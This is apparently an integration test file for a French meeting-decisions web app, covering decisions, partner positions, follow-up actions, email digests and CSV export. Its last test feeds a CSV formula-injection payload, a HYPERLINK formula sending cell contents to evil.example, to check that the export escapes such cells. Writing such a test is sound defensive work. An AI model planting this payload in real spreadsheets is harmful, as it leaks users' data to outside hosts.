//! Decisions and follow-up after meetings (API.md, "Decisions and follow-up").

use std::time::Duration;

use chrono::{Days, NaiveDate};
use serde_json::{Value, json};
use uuid::Uuid;

use crate::actors::{Actor, status_and_body};
use crate::meetings::Scene;

fn today() -> NaiveDate {
    amont::workflow::follow_up::today()
}

/// A convened meeting, a third accepted partner (the town) with its member, and the scene.
async fn convened() -> (Scene, Uuid, Uuid, Actor) {
    let scene = Scene::new().await;
    let (meeting, _) = scene.upstream_done().await;
    assert_eq!(scene.record(meeting).await.0, 201);
    let (status, body) = scene.convene(meeting).await;
    assert_eq!(status, 201, "{body}");
    // A third partner joins after the convocation: accepted, but a stranger to the actions.
    let town = scene
        .invite("Ville de Trappes", "dgs@trappes.example")
        .await;
    let marc = Actor::new(&scene.app, "marc@trappes.example", "Marc");
    marc.join(&scene.app, town, "member");
    let answer = format!("/api/projects/{}/partners/{town}/answer", scene.project);
    assert_eq!(
        marc.post(&answer, json!({"decision": "accept"}))
            .await
            .status(),
        200
    );
    (scene, meeting, town, marc)
}

async fn decide(scene: &Scene, meeting: Uuid, title: &str, status: &str) -> Value {
    let (code, body) = status_and_body(
        scene
            .ines
            .post(
                &format!("/api/meetings/{meeting}/decisions"),
                json!({"title": title, "text": "Après débat.", "status": status, "positions": [
                    {"organization_id": scene.mjc, "position": "consent"},
                    {"organization_id": scene.caf, "position": "objection", "comment": "Budget à confirmer"}
                ]}),
            )
            .await,
    )
    .await;
    assert_eq!(code, 201, "{body}");
    body
}

async fn act(
    scene: &Scene,
    decision: &Value,
    title: &str,
    owner: Uuid,
    due_on: NaiveDate,
) -> Value {
    let (code, body) = status_and_body(
        scene
            .ines
            .post(
                &format!(
                    "/api/decisions/{}/actions",
                    decision["id"].as_str().unwrap()
                ),
                json!({"title": title, "owner_organization_id": owner, "due_on": due_on}),
            )
            .await,
    )
    .await;
    assert_eq!(code, 201, "{body}");
    body
}

#[actix_web::test]
async fn decisions_record_positions_of_accepted_partners_only() {
    let (scene, meeting, town, marc) = convened().await;
    let decisions = format!("/api/meetings/{meeting}/decisions");

    let decision = decide(&scene, meeting, "Ouverture en janvier", "adopted").await;
    assert_eq!(decision["status"], "adopted");
    assert_eq!(decision["meeting_id"], json!(meeting));
    let positions = decision["positions"].as_array().unwrap();
    assert_eq!(positions.len(), 2);
    let caf = positions
        .iter()
        .find(|p| p["organization_id"] == json!(scene.caf))
        .unwrap();
    assert_eq!(caf["position"], "objection");
    assert_eq!(caf["comment"], "Budget à confirmer");
    assert_eq!(caf["organization_name"], "CAF du Rhône");

    // An organization that is not an accepted partner cannot hold a position.
    let stranger_org = marc.organization("Association extérieure").await;
    for positions in [
        json!([{"organization_id": stranger_org, "position": "consent"}]),
        json!([{"organization_id": scene.mjc, "position": "consent"}, {"organization_id": scene.mjc, "position": "objection"}]),
        json!([{"organization_id": scene.mjc, "position": "veto"}]),
    ] {
        let (status, body) = status_and_body(
            scene
                .ines
                .post(
                    &decisions,
                    json!({"title": "X", "status": "adopted", "positions": positions}),
                )
                .await,
        )
        .await;
        assert_eq!(
            (status, body["field"].as_str()),
            (400, Some("positions")),
            "{body}"
        );
    }
    let (status, body) = status_and_body(
        scene
            .ines
            .post(&decisions, json!({"title": "X", "status": "maybe"}))
            .await,
    )
    .await;
    assert_eq!((status, body["field"].as_str()), (400, Some("status")));
    // A position for the town (accepted after the convocation) is fine: it is a partner now.
    let (status, _) = status_and_body(
        scene.ines.post(&decisions, json!({"title": "Local", "status": "deferred", "positions": [{"organization_id": town, "position": "abstention"}]})).await,
    )
    .await;
    assert_eq!(status, 201);

    // Only the initiator records; strangers see nothing; a meeting still planned has no decisions.
    assert_eq!(
        scene
            .claire
            .post(&decisions, json!({"title": "X", "status": "adopted"}))
            .await
            .status(),
        403
    );
    let outsider = Actor::new(&scene.app, "out@side.example", "Outsider");
    assert_eq!(
        outsider
            .post(&decisions, json!({"title": "X", "status": "adopted"}))
            .await
            .status(),
        404
    );
    assert_eq!(
        outsider
            .get(&format!("/api/projects/{}/decisions", scene.project))
            .await
            .status(),
        404
    );
    let planned = scene.meeting().await;
    let (status, body) = status_and_body(
        scene
            .ines
            .post(
                &format!("/api/meetings/{planned}/decisions"),
                json!({"title": "X", "status": "adopted"}),
            )
            .await,
    )
    .await;
    assert_eq!(
        (status, body["error"].as_str()),
        (409, Some("not_convened"))
    );

    // The register, with filters.
    let all = scene
        .claire
        .read(&format!("/api/projects/{}/decisions", scene.project))
        .await;
    assert_eq!(all.as_array().unwrap().len(), 2);
    let adopted = scene
        .claire
        .read(&format!(
            "/api/projects/{}/decisions?status=adopted",
            scene.project
        ))
        .await;
    assert_eq!(adopted.as_array().unwrap().len(), 1);
    let by_meeting = scene
        .claire
        .read(&format!(
            "/api/projects/{}/decisions?meeting_id={planned}",
            scene.project
        ))
        .await;
    assert_eq!(by_meeting, json!([]));
    let future = today().checked_add_days(Days::new(2)).unwrap();
    let later = scene
        .claire
        .read(&format!(
            "/api/projects/{}/decisions?from={future}",
            scene.project
        ))
        .await;
    assert_eq!(later, json!([]));
    let until_today = scene
        .claire
        .read(&format!(
            "/api/projects/{}/decisions?to={}",
            scene.project,
            today()
        ))
        .await;
    assert_eq!(until_today.as_array().unwrap().len(), 2);
    let sheet = scene
        .claire
        .read(&format!("/api/projects/{}/sheet", scene.project))
        .await;
    assert_eq!(sheet["decisions"].as_array().unwrap().len(), 2);
}

#[actix_web::test]
async fn actions_change_status_by_their_owner_or_the_initiator_only() {
    let (scene, meeting, town, marc) = convened().await;
    let decision = decide(&scene, meeting, "Recruter un animateur", "adopted").await;
    let tomorrow = today().checked_add_days(Days::new(1)).unwrap();
    let action = act(
        &scene,
        &decision,
        "Publier l'offre d'emploi",
        scene.caf,
        tomorrow,
    )
    .await;
    assert_eq!(action["status"], "open");
    assert_eq!(action["overdue"], false);
    assert_eq!(action["owner_organization_name"], "CAF du Rhône");
    let path = format!("/api/actions/{}", action["id"].as_str().unwrap());

    // The owner must be an accepted partner; only the initiator creates actions.
    let outsider_org = marc.organization("Ailleurs").await;
    let (status, body) = status_and_body(
        scene
            .ines
            .post(
                &format!(
                    "/api/decisions/{}/actions",
                    decision["id"].as_str().unwrap()
                ),
                json!({"title": "X", "owner_organization_id": outsider_org, "due_on": tomorrow}),
            )
            .await,
    )
    .await;
    assert_eq!(
        (status, body["field"].as_str()),
        (400, Some("owner_organization_id"))
    );
    assert_eq!(
        scene
            .claire
            .post(
                &format!(
                    "/api/decisions/{}/actions",
                    decision["id"].as_str().unwrap()
                ),
                json!({"title": "X", "owner_organization_id": scene.caf, "due_on": tomorrow})
            )
            .await
            .status(),
        403
    );

    // Another partner may not change it; the owner may; a second "done" is refused.
    assert_eq!(patch(&path, &marc, "done").await.status(), 403);
    let outsider = Actor::new(&scene.app, "out@side.example", "Outsider");
    assert_eq!(patch(&path, &outsider, "done").await.status(), 404);
    let (status, body) = status_and_body(patch(&path, &scene.claire, "done").await).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["status"], "done");
    assert_eq!(body["updated_by_name"], "Claire Dubois");
    let (status, body) = status_and_body(patch(&path, &scene.claire, "done").await).await;
    assert_eq!(
        (status, body["error"].as_str(), body["status"].as_str()),
        (409, Some("invalid_transition"), Some("done"))
    );
    let (status, body) = status_and_body(patch(&path, &scene.claire, "finished").await).await;
    assert_eq!((status, body["field"].as_str()), (400, Some("status")));
    // The initiator may reopen it.
    assert_eq!(patch(&path, &scene.ines, "open").await.status(), 200);

    // Audited, with who changed what.
    let audit = scene
        .ines
        .read(&format!("/api/projects/{}/audit", scene.project))
        .await;
    let changes: Vec<&Value> = audit
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "action.status_changed")
        .collect();
    assert_eq!(changes.len(), 2);
    assert_eq!(changes[0]["actor_name"], "Claire Dubois");
    assert_eq!(changes[0]["details"]["to"], "done");
    let _ = town;
}

#[actix_web::test]
async fn overdue_actions_and_my_organizations_actions() {
    let (scene, meeting, _, _) = convened().await;
    let decision = decide(&scene, meeting, "Plan d'action", "adopted").await;
    let yesterday = today().checked_sub_days(Days::new(1)).unwrap();
    let in_ten_days = today().checked_add_days(Days::new(10)).unwrap();
    let late = act(&scene, &decision, "Envoyer le bilan", scene.caf, yesterday).await;
    assert_eq!(late["overdue"], true);
    act(
        &scene,
        &decision,
        "Réserver la salle",
        scene.caf,
        in_ten_days,
    )
    .await;
    let mjc_late = act(
        &scene,
        &decision,
        "Relancer la mairie",
        scene.mjc,
        yesterday,
    )
    .await;
    scene
        .ines
        .call(
            reqwest::Method::PATCH,
            &format!("/api/actions/{}", mjc_late["id"].as_str().unwrap()),
            Some(json!({"status": "cancelled"})),
        )
        .await;

    let overdue = scene
        .claire
        .read(&format!(
            "/api/projects/{}/actions?overdue=true",
            scene.project
        ))
        .await;
    let titles: Vec<&str> = overdue
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["title"].as_str().unwrap())
        .collect();
    assert_eq!(
        titles,
        ["Envoyer le bilan"],
        "cancelled actions are never overdue"
    );
    let all = scene
        .claire
        .read(&format!("/api/projects/{}/actions", scene.project))
        .await;
    assert_eq!(all.as_array().unwrap().len(), 3);

    let mine = scene.claire.read("/api/me/actions").await;
    let titles: Vec<&str> = mine
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["title"].as_str().unwrap())
        .collect();
    assert_eq!(
        titles,
        ["Envoyer le bilan", "Réserver la salle"],
        "the CAF's open actions, overdue first"
    );
}

#[actix_web::test]
async fn the_csv_register_opens_in_excel_with_accents() {
    let (scene, meeting, _, _) = convened().await;
    let decision = decide(&scene, meeting, "Créer un « point jeunes »", "adopted").await;
    act(&scene, &decision, "Rédiger la fiche", scene.caf, today()).await;
    decide(&scene, meeting, "Horaires d'été", "deferred").await;

    let response = scene
        .claire
        .get(&format!("/api/projects/{}/decisions.csv", scene.project))
        .await;
    assert_eq!(response.status(), 200);
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    assert!(
        response.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .contains("decisions.csv")
    );
    let bytes = response.bytes().await.unwrap();
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "UTF-8 byte-order mark");
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(&bytes[3..]);
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        header,
        [
            "Date",
            "Réunion",
            "Décision",
            "Statut",
            "Texte",
            "Positions",
            "Actions",
            "Enregistrée avant la réunion"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(&rows[0][1], "Comité de pilotage");
    assert_eq!(&rows[0][2], "Créer un « point jeunes »");
    assert_eq!(&rows[0][3], "adoptée");
    assert!(
        rows[0][5].contains("CAF du Rhône : objection (Budget à confirmer)"),
        "{}",
        &rows[0][5]
    );
    assert!(
        rows[0][6].contains("Rédiger la fiche — CAF du Rhône"),
        "{}",
        &rows[0][6]
    );
    assert_eq!(&rows[1][3], "reportée");

    let english = scene
        .claire
        .get(&format!(
            "/api/projects/{}/decisions.csv?lang=en&status=deferred",
            scene.project
        ))
        .await;
    let bytes = english.bytes().await.unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(&bytes[3..]);
    assert_eq!(&reader.headers().unwrap()[1], "Meeting");
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][3], "deferred");
}

#[actix_web::test]
async fn the_digest_reaches_owners_once_a_day_and_only_with_something_to_say() {
    let (scene, meeting, _, _) = convened().await;
    let decision = decide(&scene, meeting, "Plan d'action", "adopted").await;
    let yesterday = today().checked_sub_days(Days::new(1)).unwrap();
    act(&scene, &decision, "Envoyer le bilan", scene.caf, yesterday).await;
    act(
        &scene,
        &decision,
        "Préparer la convention",
        scene.caf,
        today().checked_add_days(Days::new(7)).unwrap(),
    )
    .await;
    act(
        &scene,
        &decision,
        "Trop loin",
        scene.caf,
        today().checked_add_days(Days::new(8)).unwrap(),
    )
    .await;

    let run = |day: NaiveDate| {
        let mut conn = scene.app.db.connect();
        amont::mail::digest::send_digests(&mut conn, &scene.app.settings, day).unwrap()
    };
    assert_eq!(
        run(today()),
        1,
        "Claire, the CAF's only member; nobody else owns anything"
    );
    scene.app.mailer.wake();
    let mails = digests(&scene, 1).await;
    let digest = mails.last().unwrap();
    assert!(digest.to.contains("claire@caf.example"), "{}", digest.to);
    assert!(
        digest.subject.contains("1 action en retard"),
        "{}",
        digest.subject
    );
    let text = digest.text.as_deref().unwrap();
    assert!(
        text.contains("Envoyer le bilan") && text.contains("Préparer la convention"),
        "{text}"
    );
    assert!(!text.contains("Trop loin"), "due in eight days: not yet");
    let late_at = text.find("Envoyer le bilan").unwrap();
    assert!(
        late_at < text.find("Préparer la convention").unwrap(),
        "overdue first"
    );

    // Once a day: a second run the same day queues nothing; the next day does again.
    assert_eq!(run(today()), 0);
    assert_eq!(run(today().checked_add_days(Days::new(1)).unwrap()), 1);
    scene.app.mailer.wake();
    let sent = digests(&scene, 2).await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(
        digests(&scene, 2).await.len(),
        2,
        "exactly two digests over two days"
    );
    assert!(sent.iter().all(|m| !m.to.contains("marc@trappes.example")));

    // Nothing to say: when everything is done, no digest.
    let mut conn = scene.app.db.connect();
    use diesel::prelude::*;
    diesel::update(amont::db::schema::actions::table)
        .set(amont::db::schema::actions::status.eq("done"))
        .execute(&mut conn)
        .unwrap();
    assert_eq!(run(today().checked_add_days(Days::new(2)).unwrap()), 0);
}

/// The digests received so far, once there are at least `count` (20 s at most).
async fn digests(scene: &Scene, count: usize) -> Vec<crate::smtp::Received> {
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    loop {
        let found: Vec<_> = scene
            .app
            .smtp
            .messages()
            .into_iter()
            .filter(|m| m.subject.starts_with("Suivi"))
            .collect();
        if found.len() >= count || std::time::Instant::now() > deadline {
            return found;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

async fn patch(path: &str, actor: &Actor, status: &str) -> reqwest::Response {
    actor.patch(path, json!({"status": status})).await
}

#[actix_web::test]
async fn open_actions_are_carried_to_the_next_meeting_and_meetings_are_marked_held() {
    let (scene, meeting, _, _) = convened().await;
    let decision = decide(&scene, meeting, "Plan d'action", "adopted").await;
    act(&scene, &decision, "Envoyer le bilan", scene.caf, today()).await;
    let done = act(&scene, &decision, "Déjà fait", scene.mjc, today()).await;
    scene
        .ines
        .call(
            reqwest::Method::PATCH,
            &format!("/api/actions/{}", done["id"].as_str().unwrap()),
            Some(json!({"status": "done"})),
        )
        .await;

    let next = scene.meeting().await;
    let agenda = scene
        .claire
        .read(&format!("/api/meetings/{next}/agenda"))
        .await;
    let items = agenda["items"].as_array().unwrap();
    assert_eq!(items.len(), 1, "{agenda}");
    assert_eq!(items[0]["title"], "Suivi des actions — CAF du Rhône");
    assert_eq!(items[0]["lead_org_id"], json!(scene.caf.to_string()));
    assert!(
        items[0]["notes"]
            .as_str()
            .unwrap()
            .contains("Envoyer le bilan")
    );
    assert!(!items[0]["notes"].as_str().unwrap().contains("Déjà fait"));

    // Held: not before it starts; then once.
    let held = format!("/api/meetings/{meeting}/held");
    let (status, body) = status_and_body(scene.ines.post(&held, json!({})).await).await;
    assert_eq!((status, body["error"].as_str()), (409, Some("not_started")));
    {
        use amont::db::schema::meetings;
        use diesel::prelude::*;
        diesel::update(meetings::table.find(meeting))
            .set(meetings::starts_at.eq(chrono::Utc::now() - chrono::Duration::hours(2)))
            .execute(&mut scene.app.db.connect())
            .unwrap();
    }
    assert_eq!(scene.claire.post(&held, json!({})).await.status(), 403);
    let (status, body) = status_and_body(scene.ines.post(&held, json!({})).await).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["status"], "held");
    let (status, body) = status_and_body(scene.ines.post(&held, json!({})).await).await;
    assert_eq!(
        (status, body["error"].as_str()),
        (409, Some("not_convened"))
    );
    // Decisions may still be recorded for a held meeting.
    decide(&scene, meeting, "Bilan de la séance", "adopted").await;
}

/// A decision recorded before its meeting started stays allowed and says so — in the API, the
/// CSV register and the printable sheet — computed from the times, so one recorded once the
/// meeting started does not.
#[actix_web::test]
async fn a_decision_recorded_before_the_meeting_says_so_everywhere() {
    let (scene, meeting, _, _) = convened().await;
    let early = decide(&scene, meeting, "Avant la séance", "adopted").await;
    assert_eq!(early["recorded_before_meeting"], true, "{early}");
    // The meeting starts now, after the first decision (the slot's time, as time passing would).
    tokio::time::sleep(Duration::from_millis(10)).await;
    {
        use amont::db::schema::meetings;
        use diesel::prelude::*;
        diesel::update(meetings::table.find(meeting))
            .set(meetings::starts_at.eq(chrono::Utc::now()))
            .execute(&mut scene.app.db.connect())
            .unwrap();
    }
    let during = decide(&scene, meeting, "Pendant la séance", "adopted").await;
    assert_eq!(during["recorded_before_meeting"], false, "{during}");

    let listed = scene
        .claire
        .read(&format!("/api/projects/{}/decisions", scene.project))
        .await;
    let flags: Vec<(&str, bool)> = listed
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            (
                d["title"].as_str().unwrap(),
                d["recorded_before_meeting"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        flags,
        [("Avant la séance", true), ("Pendant la séance", false)]
    );

    for (lang, delimiter, header, yes) in [
        ("fr", b';', "Enregistrée avant la réunion", "oui"),
        ("en", b',', "Recorded before the meeting", "yes"),
    ] {
        let (headers, rows) = register_csv(&scene, lang, delimiter).await;
        assert_eq!(&headers[7], header);
        assert_eq!((&rows[0][2], &rows[0][7]), ("Avant la séance", yes));
        assert_eq!((&rows[1][2], &rows[1][7]), ("Pendant la séance", ""));
    }

    let sheet = scene
        .claire
        .get(&format!(
            "/api/projects/{}/sheet?format=html",
            scene.project
        ))
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(
        sheet
            .matches("Enregistrée avant le début de la réunion.")
            .count(),
        1,
        "{sheet}"
    );
}

/// The decisions register as CSV in `lang`, read by Claire: its header and its rows (the
/// byte-order mark skipped).
async fn register_csv(
    scene: &Scene,
    lang: &str,
    delimiter: u8,
) -> (csv::StringRecord, Vec<csv::StringRecord>) {
    let bytes = scene
        .claire
        .get(&format!(
            "/api/projects/{}/decisions.csv?lang={lang}",
            scene.project
        ))
        .await
        .bytes()
        .await
        .unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .from_reader(&bytes[3..]);
    let headers = reader.headers().unwrap().clone();
    (headers, reader.records().map(Result::unwrap).collect())
}

/// A title is a formula for Excel or LibreOffice when it begins with `=`, `+`, `-`, `@`, a tab
/// or a carriage return: such cells are written with a leading `'`, so they stay text.
#[actix_web::test]
async fn the_csv_register_runs_no_formula() {
    let (scene, meeting, _, _) = convened().await;
    let hostile = r#"=HYPERLINK("https://evil.example/?"&E2;"ok")"#;
    let (code, decision) = status_and_body(
        scene
            .ines
            .post(
                &format!("/api/meetings/{meeting}/decisions"),
                json!({"title": hostile, "text": "@SUM(1+1)", "status": "adopted", "positions": [
                    {"organization_id": scene.mjc, "position": "consent"},
                    {"organization_id": scene.caf, "position": "consent"}
                ]}),
            )
            .await,
    )
    .await;
    assert_eq!(code, 201, "{decision}");
    act(&scene, &decision, "+33 1 23 45 67 89", scene.caf, today()).await;
    let (code, other) = status_and_body(
        scene
            .ines
            .post(
                &format!("/api/meetings/{meeting}/decisions"),
                json!({"title": "-2+3", "text": "Texte ordinaire", "status": "deferred", "positions": []}),
            )
            .await,
    )
    .await;
    assert_eq!(code, 201, "{other}");

    for (lang, delimiter) in [("fr", b';'), ("en", b',')] {
        let (_, rows) = register_csv(&scene, lang, delimiter).await;
        for row in &rows {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{lang}: a cell that a spreadsheet would run: {cell:?}"
                );
            }
        }
        let attack = rows.iter().find(|r| r[2].contains("HYPERLINK")).unwrap();
        assert_eq!(&attack[2], format!("'{hostile}"));
        assert_eq!(&attack[4], "'@SUM(1+1)");
        assert!(
            attack[6].starts_with("'+33 1 23 45 67 89"),
            "{}",
            &attack[6]
        );
        assert!(rows.iter().any(|r| &r[2] == "'-2+3"));
        // Ordinary cells are left alone.
        assert_eq!(
            &rows.iter().find(|r| &r[2] == "'-2+3").unwrap()[4],
            "Texte ordinaire"
        );
    }
}
